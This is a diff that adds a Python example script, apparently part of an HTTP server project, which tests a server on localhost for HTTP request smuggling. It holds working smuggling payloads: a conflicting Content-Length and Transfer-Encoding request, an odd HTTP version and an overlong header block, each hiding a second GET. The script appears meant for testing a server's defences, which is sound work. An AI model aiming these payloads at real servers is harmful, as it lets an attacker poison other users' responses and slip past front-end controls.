@@ -1,0 +1,47 @@
+"""Be a proxy that sends the requests of two clients on one connection: an attacker's, then another client's.
+
+``python -m examples.shared_connection 3000`` prints what the other client gets from the server on port 3000.
+"""
+
+import socket
+import sys
+from http.client import HTTPMessage, parse_headers
+from typing import BinaryIO
+
+GREETING = b"GET /hello HTTP/1.1\r\nHost: localhost\r\n\r\n"
+POST = b"POST /hello HTTP/1.1\r\nHost: localhost\r\n"
+SMUGGLED = b"GET /smuggled HTTP/1.1\r\nX: "
+CHUNKS = b"0\r\n\r\n" + SMUGGLED
+ATTACKS = {
+    "no attack": GREETING,
+    "length and chunks": POST
+    + b"Transfer-Encoding: chunked\r\n"
+    + f"Content-Length: {len(CHUNKS)}\r\n\r\n".encode()
+    + CHUNKS,
+    "HTTP/9.9": b"GET /hello HTTP/9.9\r\nHost: localhost\r\n\r\n",
+    "101 headers": POST + b"X: y\r\n" * 99 + f"Content-Length: {len(SMUGGLED)}\r\n\r\n".encode() + SMUGGLED,
+}
+
+
+def next_client_gets(port: int, attack: bytes) -> str:
+    """Send an attack and then the greeting, each as one request, and return the body of the second response."""
+    with socket.create_connection(("localhost", port), timeout=10) as connection:
+        responses = connection.makefile("rb")
+        connection.sendall(attack)
+        headers, _ = read_response(responses)
+        if headers["Connection"] == "close":
+            return "(a new connection)"
+        connection.sendall(GREETING)
+        _, body = read_response(responses)
+        return body
+
+
+def read_response(responses: BinaryIO) -> tuple[HTTPMessage, str]:
+    responses.readline()  # the status line
+    headers = parse_headers(responses)
+    return headers, responses.read(int(headers["Content-Length"])).decode().strip()
+
+
+if __name__ == "__main__":
+    for name, attack in ATTACKS.items():
+        print(f"{name:<18} {next_client_gets(int(sys.argv[1]), attack)}")
